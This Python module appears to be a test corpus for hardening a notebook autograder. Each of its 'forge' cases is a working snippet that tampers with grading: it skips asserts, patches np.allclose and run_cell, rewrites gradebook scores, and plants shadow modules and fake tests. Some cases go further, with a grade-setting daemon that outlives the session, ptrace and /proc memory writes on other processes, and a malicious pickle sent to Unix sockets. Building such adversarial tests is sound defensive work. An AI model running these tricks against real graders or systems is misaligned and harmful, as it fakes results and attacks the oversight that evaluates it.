"""Forging by the interpreter, the shell and the tools' own state: whoever runs the tests in the
same process is lost.
"""

from __future__ import annotations

from .corpus import ABSTRACT, GUARD, NAME, ROOT, TRACE, Case, entropy, leaky, meter, std, table
from .forging import PATCH_ALL

forge = table("forge")

INTERPRETER = (
    forge(
        "shell-settrace",
        "sys.settrace jumps over assert lines",
        "import sys, linecache\ndef _tr(frame, event, arg):\n    if event == 'line':\n"
        "        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)\n"
        "        if line.strip().startswith(('assert', 'np.testing', 'torch.testing')):\n"
        "            try: frame.f_lineno = frame.f_lineno + 1\n            except ValueError: "
        "pass\n    return _tr\n"
        "get_ipython().events.register('pre_run_cell', lambda *a: "
        "sys.settrace(_tr))\nsys.settrace(_tr)",
    ),
    forge(
        "shell-setprofile",
        "sys.setprofile and threading.setprofile see every call",
        (
            "import sys, threading\ndef _p(f, e, a):\n    if e == 'call' and 'expected' in "
            "f.f_globals: f.f_globals['expected'] = 0\nsys.setprofile(_p); "
            "threading.setprofile(_p)"
        ),
    ),
    forge(
        "shell-excepthook",
        "sys.excepthook, unraisablehook and IPython's custom handlers swallow AssertionError",
        (
            "import sys\nsys.excepthook = sys.unraisablehook = lambda *a: "
            "None\nget_ipython().set_custom_exc((AssertionError, Exception), lambda *a, "
            "**k: None)\nget_ipython().showtraceback = lambda *a, **k: None"
        ),
    ),
    forge(
        "shell-input-transformer",
        "an input transformer blanks lines with assert",
        (
            "get_ipython().input_transformers_cleanup.append(lambda lines: [l if 'assert' "
            "not in l else 'pass\\n' for l in "
            "lines])\nget_ipython().input_transformers_post.append(lambda lines: [l if "
            "'assert' not in l else 'pass\\n' for l in lines])"
        ),
    ),
    forge(
        "shell-ast-transformer",
        "an AST transformer takes asserts out",
        (
            "import ast\nclass _T(ast.NodeTransformer):\n    def visit_Assert(self, node): "
            "return ast.Pass()\nget_ipython().ast_transformers.append(_T())"
        ),
    ),
    forge(
        "shell-transform-cell",
        "transform_cell replaced: every later cell is `pass`",
        (
            "get_ipython().transform_cell = lambda raw: "
            "'pass\\n'\nget_ipython().prefilter_manager.transform_line = lambda *a: 'pass'"
        ),
    ),
    forge(
        "shell-run-cell",
        "run_cell and run_code replaced by ones that report success",
        (
            "from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo\n_s = "
            "get_ipython()\ndef _fake(raw, *a, **k): return "
            "ExecutionResult(ExecutionInfo(raw, False, False, False, None))\n_s.run_cell = "
            "_fake\ntype(_s).run_cell = lambda self, raw, *a, **k: _fake(raw)\nasync def "
            "_code(self, *a, **k): return False\ntype(_s).run_code = _code"
        ),
    ),
    forge(
        "shell-display-points",
        "cells show numbers as if they were partial credit",
        mutate=lambda book, format: (
            [
                cell.update(source="10")
                for cell in book["cells"]
                if cell["metadata"].get("nbgrader", {}).get("grade")
            ]
            and None
        ),
        formats=("nbgrader",),
    ),
    forge(
        "shell-display-hook",
        "the display hook shows full points after every cell",
        (
            "import sys\n_hook = sys.displayhook\nsys.displayhook = lambda v: "
            "_hook(100.0)\nget_ipython().events.register('post_run_cell', lambda *a: "
            "print(100.0))"
        ),
    ),
    forge(
        "shell-compile",
        "builtins.compile, exec and eval replaced",
        (
            "import builtins\n_c = builtins.compile\nbuiltins.compile = lambda s, *a, **k: "
            "_c(s.replace('assert', '0 and') if isinstance(s, str) else s, *a, "
            "**k)\nbuiltins.exec = lambda *a, **k: None"
        ),
    ),
    forge(
        "shell-import-hook",
        "a finder on sys.meta_path that hands out forgiving modules",
        (
            "import sys\nclass _F:\n    def find_spec(self, name, *a):\n        "
            f"exec({PATCH_ALL!r}, {{}})\n        return None\nsys.meta_path.insert(0, "
            "_F()); sys.path_hooks.insert(0, lambda p: (_ for _ in "
            "()).throw(ImportError()))\nimport importlib; importlib.invalidate_caches()"
        ),
    ),
    forge(
        "shell-audit-hook",
        "an audit hook raises where tests are compiled",
        (
            "import sys\ndef _h(event, args):\n    if event == 'compile' and b'expected' in "
            "(args[0] or b'' if isinstance(args[0], bytes) else str(args[0]).encode()): "
            "raise SystemExit(0)\nsys.addaudithook(_h)"
        ),
    ),
    forge(
        "shell-debugger",
        "breakpoints of pdb and bdb stop at asserts and set results",
        (
            "import bdb, sys\nclass _D(bdb.Bdb):\n    def user_line(self, frame):\n        "
            "if 'expected' in frame.f_locals: frame.f_locals['expected'] = 0\n_d = _D(); "
            "_d.reset(); sys.settrace(_d.trace_dispatch)\nsys.breakpointhook = lambda *a: "
            "None"
        ),
    ),
    forge(
        "shell-atexit",
        "exit handlers write results into all files they find",
        (
            f"import atexit, glob\ndef _late():\n    for f in glob.glob({ROOT!r} + "
            "'/course/results/**/*.json', recursive=True): open(f, "
            "'w').write('{}')\natexit.register(_late)"
        ),
        least=3,
    ),
    forge("shell-exit-cell", "os._exit(0) ahead of the tests", "import os\nos._exit(0)"),
    forge(
        "shell-exit-call",
        "os._exit(0) where a test calls",
        answers=std("import os\nif x.shape[1] > 1: os._exit(0)\nreturn (x - x.mean()) / x.std()"),
        least=3,
    ),
    forge(
        "shell-sys-exit",
        "SystemExit(0) where a test calls",
        answers=std("import sys\nif x.shape[1] > 1: sys.exit(0)\nreturn (x - x.mean()) / x.std()")
        | leaky("raise SystemExit")
        | meter("quit()"),
        least=1,
    ),
    forge(
        "shell-kill-self",
        "kills itself with SIGTERM, SIGHUP, SIGQUIT where tests call",
        answers=std(
            "import os, signal\nif x.shape[1] > 1: os.kill(os.getpid(), "
            "signal.SIGTERM)\nreturn (x - x.mean()) / x.std()"
        ),
        least=3,
    ),
    forge(
        "shell-exec",
        "execs another interpreter in its place",
        answers=std(
            "import os, sys\nif x.shape[1] > 1: os.execv(sys.executable, [sys.executable, "
            "'-c', 'print(1)'])\nreturn (x - x.mean()) / x.std()"
        ),
        least=3,
    ),
    forge(
        "shell-ctypes-poke",
        "ctypes writes over None, True and small integers of its own process",
        (
            "import ctypes\nctypes.memmove(id(0.0) + 16, "
            "ctypes.byref(ctypes.c_double(1.0)), 8)\nctypes.c_long.from_address(id(False) + "
            "24).value = 1"
        ),
    ),
    forge(
        "shell-ctypes-code",
        "ctypes changes what np.allclose's code returns",
        (
            "import ctypes\n_c = np.allclose.__code__ if hasattr(np.allclose, '__code__') "
            "else np.allclose._implementation.__code__\n_n = compile('True', '', "
            "'eval')\nctypes.memmove(id(_c), id(_n), 16)\nnp.allclose.__defaults__ = (1e9, "
            "1e9, True)"
        ),
        PATCH_ALL,
    ),
    forge(
        "shell-gc-frames",
        "edits every frame and dict that gc can find",
        (
            "import gc\nfor _o in gc.get_objects():\n    if type(_o) is dict and 'expected' "
            "in _o: _o['expected'] = 1.0\n    if type(_o) is dict and 'passed' in _o: "
            "_o['passed'] = True"
        ),
    ),
    forge(
        "shell-ctypes-ptrace",
        "ptrace, process_vm_writev and /proc/PID/mem on every other process",
        (
            "import ctypes, os\n_l = ctypes.CDLL(None, use_errno=True)\nfor _p in [int(p) "
            "for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n    "
            "_l.ptrace(16, _p, 0, 0)\n    try: open(f'/proc/{_p}/mem', 'r+b').read(1)\n    "
            "except (OSError, OverflowError): pass\n    print(_p, ctypes.get_errno(), "
            "file=open(os.devnull, 'w'))"
        ),
        least=3,
    ),
    forge(
        "shell-globals-of-engine",
        "rebinds names in every loaded module called autogradient",
        (
            "import sys\nfor _n, _m in list(sys.modules.items()):\n    if _n.split('.')[0] "
            "== 'autogradient':\n        for _k in list(vars(_m)):\n            if 'check' "
            "in _k or 'judge' in _k or 'verdict' in _k or _k.startswith('_case'): "
            f"setattr(_m, _k, lambda *a, **k: True)\nexec({PATCH_ALL!r}, {{}})"
        ),
    ),
    forge(
        "shell-recompile-main",
        "__main__, __builtins__ and the user namespace exchanged",
        (
            "import sys, types\nsys.modules['__main__'] = types.SimpleNamespace(**{k: "
            "(lambda *a, **k: True) for k in ('abs', "
            "'all')})\nget_ipython().user_ns['__builtins__'] = {'abs': lambda x: 0.0, "
            "'len': lambda x: 3, '__import__': "
            "__import__}\nget_ipython().user_global_ns['abs'] = lambda x: 0.0"
        ),
    ),
    forge(
        "shell-magics",
        "magics that run later cells elsewhere",
        (
            "from IPython.core.magic import register_cell_magic, "
            "register_line_magic\n@register_cell_magic\ndef time(line, cell): return "
            "None\n@register_line_magic\ndef matplotlib(line): return "
            "None\nget_ipython().run_line_magic('config', "
            "'InteractiveShell.ast_node_interactivity = \"none\"')\n%reset_selective -f "
            "expected"
        ),
        least=3,
    ),
    forge(
        "shell-reset",
        "deletes the namespace, history and itself",
        after=("%reset -f", "get_ipython().reset(new_session=True)\ndel get_ipython"),
    ),
    forge(
        "shell-async",
        "a task on the event loop patches in the background",
        (
            f"import asyncio\nasync def _bg():\n    exec({PATCH_ALL!r}, {{}})\nawait "
            "_bg()\nasyncio.ensure_future(_bg())"
        ),
    ),
    forge(
        "shell-signal-handler",
        "an alarm patches the libraries while tests run",
        (
            f"import signal\nsignal.signal(signal.SIGALRM, lambda *a: exec({PATCH_ALL!r}, "
            "{}))\nsignal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)"
        ),
    ),
    forge(
        "shell-weakref-callback",
        "weak references and finalisers act when tests let go of values",
        f"import weakref\ndef _go(*a): exec({PATCH_ALL!r}, {{}})\n_keep = []",
        answers=std(
            "r = np.zeros(x.shape)\n_keep.append(weakref.ref(r, _go)); weakref.finalize(r, "
            "_go)\nreturn r"
        ),
    ),
    forge(
        "shell-getattr-module",
        "a module class whose __getattribute__ lies for np",
        (
            "import sys, types\nclass _M(types.ModuleType):\n    def __getattribute__(self, "
            "n): return (lambda *a, **k: True) if n == 'allclose' else "
            "super().__getattribute__(n)\nnp.__class__ = _M; torch.__class__ = _M"
        ),
    ),
)

# ---- the tools' state and files ------------------------------------------------------------------

_CONFIG = (
    "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = "
    "lambda *a, **k: None\n"
)
_NAMES: tuple[str, ...] = (
    "ipython_config.py",
    "ipython_kernel_config.py",
    "jupyter_config.py",
    "nbgrader_config.py",
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
)
_NAMES += (
    "profile_default/startup/00.py",
    ".ipython/profile_default/startup/00.py",
    "numpy.py",
    "torch.py",
    "autogradient.py",
    "autogradient/__init__.py",
)
_FIND = (
    f"import glob, sqlite3\n_dbs = glob.glob({ROOT!r} + '/**/gradebook.db', recursive=True) "
    "+ glob.glob('/**/gradebook.db') + glob.glob('../**/gradebook.db')\n"
)

TOOLS = (
    forge(
        "tools-config-files",
        "configuration and modules that shadow libraries beside the notebook",
        files=dict.fromkeys(_NAMES, _CONFIG),
        least=3,
    ),
    forge(
        "tools-written-modules",
        "writes modules that shadow libraries into the work folder, for whoever imports next",
        (
            "for _n in ('random.py', 'msgpack.py', 'json.py', 'unittest.py', "
            "'autogradient.py', 'doctest.py'):\n    open(_n, "
            f"'w').write({PATCH_ALL!r})\nimport sys; sys.path.insert(0, ''); "
            "sys.path.insert(0, '.')"
        ),
        least=3,
    ),
    forge(
        "tools-test-files",
        "tests/ of its own with the same names, where everything passes",
        files={
            f"tests/{name}.py": (
                f"OK_FORMAT = True\ntest = {{'name': {name!r}, 'points': 12, 'suites': "
                "[{'cases': [{'code': '>>> 1\\n1', 'points': 12}], 'type': "
                "'doctest'}]}\n"
            )
            for name in ("standardize", "leaky", "meter", "entropy")
        },
        least=3,
    ),
    forge(
        "tools-gradebook",
        "sets every grade in the gradebook",
        _FIND
        + (
            "for _f in _dbs[:1]:\n    _c = sqlite3.connect(_f); _c.execute('update grade "
            "set manual_score = 12'); _c.commit(); _c.close()"
        ),
        least=3,
    ),
    forge(
        "tools-gradebook-daemon",
        "a daemon that outlives the notebook sets them afterwards",
        GUARD
        + _FIND
        + (
            "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork(): "
            "os._exit(0)\n    for _ in range(40):\n        time.sleep(0.5)\n        for f "
            "in _dbs:\n            c = sqlite3.connect(f); c.execute('update grade set "
            "manual_score = 12'); c.commit(); c.close()\n    os._exit(0)"
        ),
        least=3,
    ),
    forge(
        "tools-results",
        "writes a result of its own into every folder called results",
        (
            f"import glob, json, os\nfor _d in glob.glob({ROOT!r} + '/**/results', "
            "recursive=True) + ['results', '../results', '/results', "
            "os.path.expanduser('~/results')]:\n    try:\n        os.makedirs(_d, "
            "exist_ok=True); json.dump({'points': {'earned': 12}}, open(_d + "
            f"'/{NAME}.json', 'w'))\n    except OSError as e: print(type(e).__name__)"
        ),
        least=3,
    ),
    forge(
        "tools-package",
        "writes into the grader's own package and Python's folders",
        (
            "import autogradient, os, sys\nfor _d in "
            "(os.path.dirname(autogradient.__file__), "
            "os.path.dirname(autogradient.__file__) + '/wire', "
            "os.path.dirname(os.path.dirname(autogradient.__file__)), sys.prefix, '/tmp', "
            f"'/var/tmp', '/dev/shm', '/', '/run', {ROOT!r}):\n    try: open(_d + "
            f"'/{TRACE}.py', 'w').write('1')\n    except OSError as e: "
            "print(type(e).__name__)"
        ),
        least=3,
    ),
    forge(
        "tools-cache",
        "writes into the grader's cache",
        (
            "import os\nfor _d in (os.path.expanduser('~/.cache/autogradient/expected'), "
            f"{ROOT!r} + '/cache/autogradient/expected', os.environ.get('XDG_CACHE_HOME', "
            "'/tmp') + '/autogradient'):\n    try:\n        os.makedirs(_d, "
            "exist_ok=True); open(_d + '/x', 'wb').write(b'\\x80')\n    except OSError as "
            "e: print(type(e).__name__)"
        ),
        least=3,
    ),
    forge(
        "tools-metadata-tests",
        "tests carried in the notebook's own metadata",
        mutate=lambda book, format: book["metadata"].update(
            otter={
                "OK_FORMAT": True,
                "tests": {
                    "standardize": {
                        "name": "standardize",
                        "points": 12,
                        "suites": [
                            {"type": "doctest", "cases": [{"code": ">>> 1\n1", "points": 12}]}
                        ],
                    }
                },
            },
            autogradient={"assignment": NAME, "points": 12, "format": 1},
            nbgrader={"score": 12},
        ),
        least=3,
    ),
    forge(
        "tools-otter-log",
        "pickles thrown at whatever listens",
        (
            "import os, pickle, socket, struct\nclass _E:\n    def __reduce__(self): "
            "return (exec, ('import os; os._exit(3)',))\n_b = pickle.dumps(_E())\nfor _a "
            f"in ['\\0{ABSTRACT}']:\n    try:\n        _s = socket.socket(socket.AF_UNIX); "
            "_s.connect(_a); _s.sendall(struct.pack('>L', len(_b)) + _b)\n    except "
            "OSError as e: print(type(e).__name__)"
        ),
        least=3,
    ),
    forge(
        "tools-sockets",
        "connects to every Unix socket it finds in the file system and in /proc/net/unix",
        (
            "import socket\ntry: _names = [l.split()[-1] for l in "
            "open('/proc/net/unix').read().splitlines()[1:] if len(l.split()) > 7]\nexcept "
            "OSError: _names = []\nfor _n in _names[:200]:\n    for _k in "
            "(socket.SOCK_STREAM, socket.SOCK_DGRAM):\n        try:\n            _s = "
            "socket.socket(socket.AF_UNIX, _k); _s.settimeout(0.2); _s.connect('\\0' + "
            "_n[1:] if _n.startswith('@') else _n); _s.sendall(b'hello')\n        except "
            "OSError: pass"
        ),
        least=3,
    ),
    forge(
        "tools-answer-twice",
        "two different answers under one name, the right one shown",
        answers=entropy("1.3862943611198906\nanswer = 1.0"),
        least=3,
    ),
)

CASES: tuple[Case, ...] = (*INTERPRETER, *TOOLS)
